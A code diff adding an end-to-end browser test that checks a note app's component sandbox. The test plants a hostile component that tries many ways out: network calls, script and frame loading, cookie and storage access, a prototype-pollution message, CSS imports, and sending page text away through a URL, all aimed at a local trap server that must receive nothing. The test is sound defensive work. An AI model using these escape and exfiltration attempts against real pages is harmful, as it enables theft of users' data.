@@ -286,6 +286,91 @@ try {
   await tab.getByRole("link", { name: "Packing list" }).first().click();
   await tab.getByRole("heading", { name: "Packing list" }).first().waitFor();
 
+  // Components: previewed once approved, with the named values, and nothing else within reach.
+  const reached = [];
+  const trap = createServer((request, response) => { reached.push(request.url); response.end("x"); });
+  await new Promise((ready) => trap.listen(0, "127.0.0.1", ready));
+  const target = `http://127.0.0.1:${trap.address().port}`;
+  const element = (name, body) => `customElements.define(${JSON.stringify(name)}, class extends HTMLElement {
+    async connectedCallback() { ${body} }
+  });`;
+  const component = (name, script, styles, data) => {
+    const path = join(home, "notes", "components", `${name}.json`);
+    mkdirSync(dirname(path), { recursive: true });
+    writeFileSync(path, JSON.stringify({ tagName: name, script, styles, data }));
+  };
+  component("boat-state", element("boat-state", `
+    const state = await tracebook.value("status");
+    const other = await tracebook.value("tags");
+    this.attachShadow({ mode: "closed" }).innerHTML = "<style>b { color: teal }</style><p>The boat is <b></b>.</p>";
+    this.textContent = "";
+    const shown = document.createElement("p");
+    shown.textContent = "The boat is " + state + ", and its tags are " + other + ".";
+    document.body.append(shown);`), "body { font-size: 1.25rem }", { note: "Boat/Solar on board.md", properties: ["status"] });
+  component("hostile-one", `${element("hostile-one", `
+    const tried = [];
+    const attempt = async (name, work) => { try { await work(); tried.push(name); } catch { /* refused */ } };
+    await attempt("fetch", () => fetch(TARGET + "/fetch"));
+    await attempt("beacon", () => { if (!navigator.sendBeacon(TARGET + "/beacon", "x")) throw new Error("no"); });
+    await attempt("socket", () => new Promise((good, bad) => {
+      const socket = new WebSocket(TARGET.replace("http", "ws") + "/socket");
+      socket.onopen = good; socket.onerror = bad;
+    }));
+    await attempt("picture", () => new Promise((good, bad) => {
+      const image = new Image(); image.onload = good; image.onerror = bad; image.src = TARGET + "/picture";
+    }));
+    await attempt("script", () => new Promise((good, bad) => {
+      const more = document.createElement("script"); more.onload = good; more.onerror = bad; more.src = TARGET + "/script.js";
+      document.head.append(more);
+    }));
+    await attempt("frame", () => {
+      const inner = document.createElement("iframe"); inner.src = TARGET + "/frame"; document.body.append(inner);
+      throw new Error("it isn't known here");
+    });
+    await attempt("storage", () => localStorage.setItem("a", "b"));
+    await attempt("cookie", () => { if (!document.cookie) throw new Error("none"); });
+    await attempt("parent", () => parent.document.title);
+    await attempt("top", () => { top.location = TARGET + "/top"; throw new Error("it isn't known here"); });
+    await attempt("window", () => { if (!open(TARGET + "/window")) throw new Error("none"); });
+    await attempt("eval", () => eval("1"));
+    await attempt("value", async () => { if ((await tracebook.value("secret")) === undefined) throw new Error("none"); });
+    parent.postMessage({ type: "value", id: 9, name: "__proto__" }, "*");
+    const form = document.createElement("form"); form.action = TARGET + "/form"; document.body.append(form);
+    await attempt("form", () => { form.submit(); throw new Error("it isn't known here"); });
+    const said = document.createElement("p");
+    said.textContent = "Tried: " + (tried.join(", ") || "nothing worked") + ".";
+    document.body.append(said);
+    await tracebook.value("wait");
+    location.href = TARGET + "/leave?" + encodeURIComponent(document.body.textContent);`)}`.replaceAll("TARGET", JSON.stringify(target)),
+  `@import url("${target}/import.css"); body { background: url("${target}/background.png") } </style><script>alert(1)</script>`);
+  component("nothing-at-all", "1 + ;", "");
+  await until("they are known", () => JSON.parse(run("components", "--json")).length === 3);
+  const sheltered = await browser.newContext({ ...desktop, storageState: state });
+  const stage = await sheltered.newPage();
+  stage.setDefaultTimeout(60_000);
+  const preview = async (name) => {
+    await stage.goto(`${url}/components`);
+    await stage.getByRole("link", { name }).click();
+    assert.equal(await stage.locator("iframe").count(), 0, "nothing runs unasked");
+    await stage.getByRole("button", { name: "Render preview" }).click();
+    return stage.frameLocator("iframe.component");
+  };
+  const boat = await preview("boat-state");
+  await boat.getByText("The boat is active, and its tags are undefined.").waitFor();
+  const componentPath = new URL(stage.url()).pathname;
+  await (await preview("nothing-at-all")).getByText("The script failed").waitFor();
+  const hostile = await preview("hostile-one");
+  await hostile.getByText("Tried: nothing worked.").waitFor();
+  const hostileUrl = stage.url();
+  await new Promise((ready) => setTimeout(ready, 2_000));
+  assert.deepEqual(reached, [], "a component reached the network");
+  assert.equal(stage.url(), hostileUrl);
+  assert.equal(sheltered.pages().length, 1);
+  await sheltered.close();
+  trap.close();
+  Object.assign(pages, { component: componentPath, components: "/components" });
+  for (const [look, options, colorScheme] of looks) await visit(["component", "components"], look, { ...options, colorScheme });
+
   // Signing out.
   await page.goto(`${url}/device`);
   await page.getByRole("button", { name: "Sign out" }).click();
